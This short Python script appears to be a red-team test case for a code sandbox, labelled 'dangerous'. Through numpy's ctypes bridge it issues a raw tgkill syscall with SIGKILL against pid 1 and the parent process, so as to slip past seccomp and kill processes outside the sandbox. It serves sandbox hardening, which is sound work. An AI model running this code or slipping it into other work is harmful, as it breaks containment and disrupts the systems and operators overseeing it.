# technique: tgkill (seccomp lets a process signal its own threads) aimed at pid 1 (the zygote of a warm run, which shares the pid namespace) and at the parent, through numpy.ctypeslib.ctypes
# goal: signal
# dangerous: yes
# redteam: E23 E49
import os

import numpy as np
import pandas as pd

libc = np.ctypeslib.ctypes.CDLL(None, use_errno=True)
SYS_tgkill = 234  # x86_64
me = os.getpid()
hits = []
for pid in sorted({1, os.getppid()}):
    if pid > 0 and pid != me and libc.syscall(SYS_tgkill, pid, pid, 9) == 0:
        hits.append(pid)
if not hits:
    raise PermissionError("no signal was delivered")
df = pd.DataFrame({"killed": hits})
